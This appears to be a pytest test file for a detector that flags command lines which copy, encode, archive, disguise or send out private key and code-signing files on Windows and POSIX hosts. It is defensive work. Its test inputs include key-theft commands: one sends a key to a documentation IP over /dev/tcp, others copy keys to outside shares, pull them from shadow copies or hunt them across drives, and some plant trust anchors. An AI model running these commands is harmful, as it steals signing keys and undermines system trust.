"""Key files on this host: copied, packed, decoded, shown."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.keyfiles import transfer
from codesignrisk_core.model import MAX_OPERANDS, TOO_MANY_OPERANDS, Report

from tests.core.lines import ids, posix, windows


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("copy web.pfx C:\\inetpub\\ssl", ["copy_key_file"]),
        ("copy C:\\certs\\*.pfx D:\\x", ["copy_key_files"]),
        ("copy C:\\c\\web.pfx \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy C:\\c\\web.pfx F:\\", ["copy_key_file", "key_to_other_drive"]),
        ("copy C:\\c\\web.pfx C:\\Users\\Public\\note.txt", ["copy_key_file", "key_disguised", "output_user_writable"]),
        ("copy C:\\Users\\*\\web.pfx D:\\x", ["copy_key_files", "hunt_key_files", "key_other_profile"]),
        # a wildcard that reaches into all folders of a home or drive is a search, too
        ("xcopy C:\\Users\\*.pfx D:\\x /s", ["copy_key_files", "hunt_key_files"]),
        ("xcopy C:\\Users\\*.pfx D:\\x", ["copy_key_files"]),
        ("robocopy C:\\ D:\\x *.p12 /e", ["copy_key_files", "hunt_key_files"]),
        ("robocopy C:\\work\\certs D:\\x *.p12 /e", ["copy_key_files"]),
        ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
        ("robocopy C:\\w \\\\10.0.0.7\\in *.pfx", ["copy_key_files", "key_to_bare_address", "key_to_share"]),
        # the drive of whoever is connected by remote desktop
        ("robocopy C:\\w \\\\tsclient\\E\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
        ("robocopy C:\\w \\\\fs01\\in *.pfx", ["copy_key_files", "key_to_share"]),
        ("copy SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        (
            "copy \\\\10.0.0.7\\pub\\SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b",
            ["code_integrity_policy", "input_bare_address", "input_remote"],
        ),
        (
            "copy C:\\Users\\Public\\x.cip C:\\Windows\\System32\\CodeIntegrity\\CiPolicies\\Active",
            ["code_integrity_policy", "input_user_writable"],
        ),
        ("copy \\\\10.0.0.7\\pub\\SiPolicy.p7b D:\\x", []),
        # the name of an everyday file hides no policy
        ("copy x.pem C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\bob\\x", ["copy_key_file", "key_other_profile"]),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\ann\\x", ["copy_key_file"]),
        ("copy server.key C:\\nginx\\conf", []),
        ("copy /y ..\\app.snk obj", []),
        ("copy server.key \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy web.pfx.txt D:\\x", []),
        ("xcopy C:\\certs\\*.p12 D:\\x /s /y", ["copy_key_files"]),
        ("xcopy %APPDATA%\\Microsoft\\Crypto\\RSA D:\\x /s", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\Protect D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\SystemCertificates D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy C:\\Users\\kim\\AppData\\LocalLow\\NPKI D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\Templates D:\\x /e", []),
        ("robocopy C:\\certs \\\\nas\\b *.pfx *.p12 /s", ["copy_key_files", "key_to_share", "several_key_kinds"]),
        ("robocopy C:\\work D:\\backup /mir /xf *.pfx *.key", []),
        ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vss", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /y /vss C:\\c\\w.pfx /d D:\\w.pfx", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /d C:\\c\\w.pfx", []),
        (
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\c\\w.key D:\\x",
            ["copy_key_file", "from_shadow_copy"],
        ),
        ("type C:\\c\\w.pvk", ["show_key_file"]),
        ("type C:\\c\\w.pfx > \\\\fs01\\d\\w.pfx", ["copy_key_file", "key_to_share"]),
        ("type ca.pem", []),
    ],
)
def test_copies_on_windows(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("cp a.p12 /srv/app", ["copy_key_file"]),
        ("cp -t /tmp a.p12 b.jks", ["copy_key_files", "output_user_writable", "several_key_kinds"]),
        (
            "cp /Users/ann/Library/Keychains/login.keychain-db /Volumes/USB",
            ["copy_key_files", "key_containers", "key_to_other_drive"],
        ),
        ("cp /Users/ann/Library/Application Support/x.p12 /srv", ["copy_key_file"]),
        ("cp server.key /etc/nginx/ssl", []),
        ("cat /etc/ssl/private/server.key", ["show_key_file"]),
        ("cat a.pem b.pem", []),
        ("base64 -d -o /srv/a.p12 a.txt", ["decode_key_file"]),
        ("base64 --decode a.txt > a.p12", ["decode_key_file"]),
        ("base64 a.p12", ["encode_key_file"]),
        ("base64 -w0 /srv/secrets/a.p12", ["encode_key_file", "from_secrets_folder"]),
        ("base64 a.pem", []),
        ("base64 a.png", []),
    ],
)
def test_copies_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators", "secrets"),
    [
        ("7z a C:\\Users\\ann\\b.7z C:\\Users\\ann\\w.pfx", ["archive_key_file"], []),
        ("7z a -pletmein o.7z w.pfx", ["archive_key_file", "archive_password"], ["letmein"]),
        ("7z a -r o.7z C:\\*.pfx C:\\*.pvk", ["archive_key_files", "hunt_key_files", "several_key_kinds"], []),
        ("7z a o.7z C:\\data -ir!*.pfx", ["archive_key_files"], []),
        ("7z a o.7z C:\\data -xr!*.pfx", [], []),
        ("7z x o.7z w.pfx", [], []),
        ("rar a -hpletmein o.rar *.p12", ["archive_key_files", "archive_password"], ["letmein"]),
        ("svc.exe a -hpletmein o.rar *.p12", ["archive_key_files", "archive_password"], ["letmein"]),
        ("zip -r -P letmein o.zip a.p12", ["archive_key_file", "archive_password"], ["letmein"]),
        ("zip -r o.zip src -x *.p12", [], []),
        ("zip -r o.zip site server.key", [], []),
        ("tar czf o.tgz a.p12", ["archive_key_file"], []),
        ("tar xzf o.tgz a.p12", [], []),
        ("tar -czf o.tgz --exclude *.p12 site", [], []),
        ("makecab w.pfx w.cab", ["archive_key_file"], []),
        ("7z a docs.zip notes.pfx.txt", [], []),
    ],
)
def test_archives(line: str, indicators: list[str], secrets: list[str]) -> None:
    report = keyfiles.judge(windows(line))
    assert found(report) == indicators
    if report is not None:
        assert report.secrets == secrets
        assert not any("letmein" in finding.sentence for finding in report.findings)


def test_operands_are_kept_in_their_normal_form() -> None:
    report = keyfiles.judge(windows("copy ..\\Keys\\Web.PFX D:\\x", "C:\\Work\\App"))
    assert report is not None
    assert (report.tool, report.action, report.files) == ("copy", "copy_key", ["c:\\work\\keys\\web.pfx"])


def told(line: str, cwd: str = "") -> list[str]:
    report = keyfiles.judge(windows(line, cwd))
    return [finding.sentence for finding in report.findings] if report else []


@pytest.mark.parametrize(
    ("line", "sentences"),
    [
        ("copy web.pfx C:\\inetpub\\ssl", ["copy copies the key file web.pfx to ssl"]),
        ("copy web.pfx", ["copy copies the key file web.pfx to the current folder"]),
        ("copy web.pfx D:\\", ["copy copies the key file web.pfx to d:"]),
        ("copy *.pfx D:\\x", ["copy copies key files to x"]),
        (
            "copy C:\\Users\\*\\*.pfx D:\\x",
            [
                "the key comes out of another user's profile",
                "copy copies key files to x",
                "copy takes key files from a whole drive or home",
            ],
        ),
        ("copy C:\\c\\w.pfx F:\\", ["the key is written to another drive", "copy copies the key file w.pfx to f:"]),
        (
            "copy C:\\c\\w.pfx C:\\Users\\Public\\n.txt",
            [
                "n.txt is a user-writable path",
                "the key gets the name n.txt",
                "copy copies the key file w.pfx to n.txt",
            ],
        ),
        (
            "copy \\\\fs1\\x\\w.pfx D:\\x",
            ["the key is read from a share", "copy copies the key file w.pfx to x"],
        ),
        (
            "copy C:\\secrets\\w.pfx D:\\x",
            ["the key comes out of a folder of secrets", "copy copies the key file w.pfx to x"],
        ),
        (
            "copy \\\\fs1\\x\\@GMT-2025.06.03-09.00.00\\w.key D:\\x",
            [
                "the key comes out of a shadow copy, past locks and permissions",
                "the key is read from a share",
                "copy copies the key file w.key to x",
            ],
        ),
        ("type w.pfx", ["type prints the key file w.pfx"]),
        ("7z a o.7z w.pfx", ["7z packs the key file w.pfx into an archive"]),
        (
            "7z a -pletmein o.7z w.pfx v.pvk",
            [
                "the password of the archive is on the command line in cleartext",
                "7z packs key files into an archive",
                "several kinds of key files at once",
            ],
        ),
        ("zip -e o.zip w.pfx", ["the archive gets a password", "zip packs the key file w.pfx into an archive"]),
        ("base64 w.pfx", ["base64 turns the key file w.pfx into text"]),
        (
            "base64 -d a.txt > C:\\Temp\\w.pfx",
            ["base64 decodes the key file w.pfx", "w.pfx is put in a user-writable path"],
        ),
    ],
)
def test_it_is_told_in_sentences(line: str, sentences: list[str]) -> None:
    assert told(line) == sentences


@pytest.mark.parametrize("extension", sorted(transfer._DISGUISES))
def test_a_key_gets_another_name(extension: str) -> None:
    assert f"the key gets the name n.{extension}" in told(f"copy w.pfx C:\\x\\n.{extension}")


def test_the_disguises_are_names_that_nobody_looks_at() -> None:
    assert sorted(transfer._DISGUISES) == (
        "bin bmp css dat dll doc docx gif html ini jpeg jpg js log mp3 pdf png tmp txt xls xlsx xml".split()
    )


@pytest.mark.parametrize(
    ("program", "reader"),
    [
        *((name, transfer.copy) for name in "copy move xcopy robocopy replace cp gcp mv ditto install".split()),
        *((name, transfer.show) for name in ("type", "cat", "more")),
        *((name, transfer.decode) for name in ("base64", "gbase64")),
        *((name, transfer.archive) for name in "7z 7za 7zr 7zz 7zg 7zfm rar winrar zip tar gtar bsdtar".split()),
        *((name, transfer.archive) for name in "makecab gzip bzip2 xz zstd".split()),
        ("esentutl", transfer.esentutl),
    ],
)
def test_programs(program: str, reader: object) -> None:
    assert transfer.READERS[program] is reader


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        # everyday files need a circumstance
        *((f"copy a.{kind} D:\\x", []) for kind in ("key", "pem", "snk", "keystore")),
        *(
            (f"copy a.{kind} \\\\fs1\\x", ["copy_key_file", "key_to_share"])
            for kind in ("key", "pem", "snk", "keystore")
        ),
        ("copy C:\\Users\\ann\\a.key C:\\Users\\bob\\x", ["copy_key_file", "key_other_profile"]),
        ("copy a.key C:\\Users\\Public\\x", []),
        ("copy a.key+a.pfx D:\\x", ["copy_key_files", "several_key_kinds"]),
        # a wildcard that goes down all folders of a home or drive
        ("xcopy C:\\Users\\ann\\*.pfx D:\\x /e", ["copy_key_files", "hunt_key_files"]),
        ("copy C:\\Users\\ann\\*.pfx D:\\x /s", ["copy_key_files"]),
        ("xcopy C:\\*.key \\\\fs1\\x /s", ["copy_key_files", "key_to_share"]),
        *((f"robocopy C:\\ D:\\x *.pfx /{deep}", ["copy_key_files", "hunt_key_files"]) for deep in ("s", "e", "mir")),
        ("robocopy C:\\ D:\\x *.pfx", ["copy_key_files"]),
        ("robocopy C:\\w D:\\x /xd *.pfx", []),
        ("robocopy C:\\w", []),
        # esentutl
        ("esentutl -y C:\\c\\w.pfx -d D:\\w.pfx", ["copy_key_file"]),
        ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vssrec x y", ["copy_key_file", "from_shadow_copy"]),
        # a certificate is no key; a folder of keys is
        ("copy a.cer D:\\x", []),
        ("copy C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Crypto\\x D:\\x", ["copy_key_files", "key_containers"]),
        ("copy -x.pfx D:\\x", []),
        # App Control
        ("copy a.p7b C:\\Windows\\System32\\CodeIntegrity", ["code_integrity_policy"]),
        # archives
        ("7z A o.7z w.pfx", ["archive_key_file"]),
        *((f"7z {verb} o.7z w.pfx", []) for verb in ("x", "e", "l", "t", "d")),
        *((f"rar {verb} o.rar w.pfx", ["archive_key_file"]) for verb in ("a", "u", "m", "mf")),
        ("7z", []),
        ("7z a o.7z -i!w.pfx", ["archive_key_file"]),
        ("7z a o.7z -ir@w.pfx", ["archive_key_file"]),
        ("7z a o.7z *.key *.pem", ["archive_key_files", "several_key_kinds"]),
        ("7z a o.7z a.key b.key", []),
        ("7z a -pletmein o.7z a.key", ["archive_key_file", "archive_password"]),
        ("7z a o.7z C:\\secrets\\a.key", []),
        ("7z a \\\\fs1\\x\\o.7z a.key", ["archive_key_file", "key_to_share"]),
        ("tar --create -f o.tar w.pfx", ["archive_key_file"]),
        ("tar cf o.tar w.pfx", ["archive_key_file"]),
        ("tar rf o.tar w.pfx", ["archive_key_file"]),
        ("tar -uf o.tar w.pfx", ["archive_key_file"]),
        ("tar tf o.tar w.pfx", []),
        ("tar --list -f o.tar w.pfx", []),
        ("tar", []),
        ("gzip w.pfx", ["archive_key_file"]),
        ("makecab /l C:\\x w.pfx w.cab", ["archive_key_file"]),
        ("zip -P letmein o.zip w.pfx", ["archive_key_file", "archive_password"]),
        ("zip --password letmein o.zip w.pfx", ["archive_key_file", "archive_password"]),
        ("zip --encrypt o.zip w.pfx", ["archive_key_file", "archive_password"]),
        ("x.exe a o.rar w.pfx", ["archive_key_file"]),
        ("x.exe a o.txt w.pfx", []),
        ("x.exe o.rar a w.pfx", []),
    ],
)
def test_more_copies_and_archives(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("cp --target-directory=/tmp a.p12", ["copy_key_file", "output_user_writable"]),
        ("cp a.p12", ["copy_key_file"]),
        ("mv a.p12 b.p12 /srv", ["copy_key_files"]),
        ("install -m 600 -o root a.p12 /srv", ["copy_key_file"]),
        ("ditto a.p12 /srv", ["copy_key_file"]),
        ("ditto -c -k a.p12 o.zip", ["archive_key_file"]),
        ("ditto -k a.p12 o.zip", ["archive_key_file"]),
        ("cat a.p12 > /tmp/n.txt", ["copy_key_file", "key_disguised", "output_user_writable"]),
        ("cat -n a.p12", ["show_key_file"]),
        ("more a.p12", ["show_key_file"]),
        ("base64 -i a.p12 -o /tmp/a.txt", ["encode_key_file", "key_disguised", "output_user_writable"]),
        ("base64 --input=a.p12", ["encode_key_file"]),
        ("base64 -D a.txt -o /srv/a.p12", ["decode_key_file"]),
        ("base64 -d a.txt --output=/tmp/a.p12", ["decode_key_file", "output_user_writable"]),
        ("base64 -d a.p12 -o a.txt", []),
        ("base64 -d a.txt --output /srv/a.p12", ["decode_key_file"]),
        ("base64 --input a.p12 --wrap 0 --break b.p12", ["encode_key_file"]),
        ("cp x.txt /usr/local/share/ca-certificates/", []),
        ("cp x.key /usr/local/share/ca-certificates/", ["add_trust_anchor"]),
        ("cp x.p12 /usr/local/share/ca-certificates/", ["copy_key_file"]),
        (
            "cp /dev/shm/.k/x.crt /usr/local/share/ca-certificates/",
            ["add_trust_anchor", "input_hidden", "input_user_writable"],
        ),
        ("cp /tmp/x.pem /etc/ssl/certs/3513523f.0", ["add_trust_anchor", "input_user_writable"]),
        ("ln -s /srv/x.pem /etc/ssl/certs/3513523f.0", ["add_trust_anchor"]),
        ("ln -s /srv/x.pem /etc/ssl/certs/site.pem", []),
        ("cp /srv/x.pem /etc/pki/tls/certs/ca-bundle.crt", ["add_trust_anchor"]),
        # folders of private keys as a whole, not the files in them
        ("tar czf /srv/k.tgz /etc/ssl/private /etc/hosts", ["archive_key_files"]),
        ("tar czf /dev/shm/k.tgz /home/ci/.gnupg", ["archive_key_files", "output_user_writable"]),
        ("zip -r k.zip /etc/letsencrypt/archive", ["archive_key_files"]),
        ("cp -r /etc/pki/tls/private /srv", ["copy_key_files"]),
        ("tar czf /srv/k.tgz /etc/kubernetes/pki", ["archive_key_files"]),
        ("cp -r /var/lib/rancher/k3s/server/tls /srv", ["copy_key_files"]),
        ("cp /etc/kubernetes/pki/ca.crt /srv", []),
        # keys that sign for others, by their names
        ("cp /etc/kubernetes/pki/ca.key /srv", ["authority_key", "copy_key_file"]),
        ("cat /etc/pki/CA/private/cakey.pem", ["authority_key", "show_key_file"]),
        ("base64 /usr/src/linux/certs/signing_key.pem", ["authority_key", "encode_key_file"]),
        ("cat /var/lib/shim-signed/mok/MOK.priv", ["authority_key", "show_key_file"]),
        ("cat /usr/src/linux/certs/x509.genkey", []),
        ("cp /etc/kubernetes/pki/apiserver.key /srv", []),
        # a connection that bash opens
        ("cat a.p12 > /dev/tcp/203.0.113.5/443", ["key_to_outside", "upload_key_file"]),
        ("cat a.txt > /dev/tcp/203.0.113.5/443", []),
        # a path as it was typed
        ("cp -R /Users/a/Library/MobileDevice/Provisioning\\ Profiles /srv", ["copy_key_files", "key_containers"]),
        ("tar czf /srv/etc.tgz /etc", []),
        ("tar czf /srv/le.tgz /etc/letsencrypt", []),
        ("cp -L /etc/letsencrypt/live/h.example/fullchain.pem /etc/nginx/", []),
        ("ls /etc/ssl/private", []),
    ],
)
def test_more_copies_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


@pytest.mark.parametrize(("extension", "folder"), [("p12", "/srv"), ("crt", "/etc/pki/trust/anchors")])
def test_files_that_are_not_looked_at_are_told(extension: str, folder: str) -> None:
    for number, limits in ((MAX_OPERANDS, []), (MAX_OPERANDS + 1, [TOO_MANY_OPERANDS])):
        line = "cp " + " ".join(f"{name}.{extension}" for name in range(number)) + f" {folder}"
        report = keyfiles.judge(posix(line))
        assert report is not None
        assert (len(report.files), report.limits) == (MAX_OPERANDS, limits)


def test_a_wildcard_is_no_file() -> None:
    report = keyfiles.judge(windows("copy *.pfx+a.p12 D:\\x", "C:\\w"))
    assert report is not None
    assert report.files == ["c:\\w\\a.p12"]
